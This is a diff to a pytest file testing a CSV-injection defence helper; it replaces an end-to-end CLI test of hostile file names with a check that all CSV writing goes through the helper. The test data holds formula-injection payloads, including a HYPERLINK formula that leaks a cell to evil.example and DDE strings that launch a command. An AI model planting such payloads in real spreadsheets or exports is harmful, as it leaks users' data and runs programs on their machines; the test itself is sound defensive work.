@@ -6,9 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
-import subprocess
-import sys
 
 import pytest
 
@@ -17,7 +14,6 @@ from service.csv_safe import csv_text, safe_cell
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+2+cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1",
            "\uff1d1+2"]
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
 
 
 @pytest.mark.parametrize("cell", HOSTILE)
@@ -33,33 +29,12 @@ def test_plain_numbers_and_ordinary_text_are_left_alone(cell):
     assert safe_cell(cell) == cell
 
 
-def _safe(value: str) -> bool:
-    return not value.startswith(DANGEROUS) or value.lstrip("+-").replace(".", "", 1).isdigit()
+def test_every_csv_the_project_writes_goes_through_the_one_helper():
+    """A new `--csv` that writes with the csv module directly would skip the quoting."""
+    import re
+    from pathlib import Path
 
-
-def test_list_csv_from_the_cli_quotes_hostile_file_names(tmp_path, samples_dir):
-    """Real files with hostile names, taken in by `ingest`, listed by `list --csv`."""
-    inbox = tmp_path / "in"
-    inbox.mkdir()
-    xml = samples_dir / "renoyuan__easyofd/original_invoice.xml"
-    names = ["=HYPERLINK(x)&1.xml", "@SUM(1)2.xml", "=1+2+cmd|calc3.xml", "-4.xml", "+5.txt"]
-    for i, name in enumerate(names):
-        (inbox / name).write_bytes(xml.read_bytes() + b" " * i)   # distinct bytes: one document each
-    shutil.copy(xml, inbox / "plain.xml")
-    config = tmp_path / "agent.toml"
-    config.write_text('[agent]\nstate_dir = "state"\n[validation]\nmax_age_days = 100000\n', encoding="utf-8")
-
-    def run(*args: str) -> subprocess.CompletedProcess:
-        return subprocess.run([sys.executable, "-m", "service", "--config", str(config), *args],
-                              capture_output=True, text=True, timeout=120, cwd=tmp_path)
-
-    r = run("ingest", "-q", str(inbox))
-    assert r.returncode in (0, 1), r.stderr
-    r = run("list", "--csv", "--limit", "0")
-    assert r.returncode == 0, r.stderr
-    rows = list(csv.DictReader(io.StringIO(r.stdout)))
-    assert {row["original_name"].lstrip("'") for row in rows} >= set(names)
-    for row in rows:
-        for column, value in row.items():
-            assert _safe(value), f"{column}={value!r} would run as a formula"
-    assert any(row["original_name"] == "'=HYPERLINK(x)&1.xml" for row in rows)
+    root = Path(__file__).resolve().parents[2]
+    direct = [str(p.relative_to(root)) for folder in ("agent", "service") for p in (root / folder).rglob("*.py")
+              if p.name != "csv_safe.py" and re.search(r"^\s*(import csv|from csv import)", p.read_text(), re.M)]
+    assert direct == [], f"these write CSV without service/csv_safe.py: {direct}"
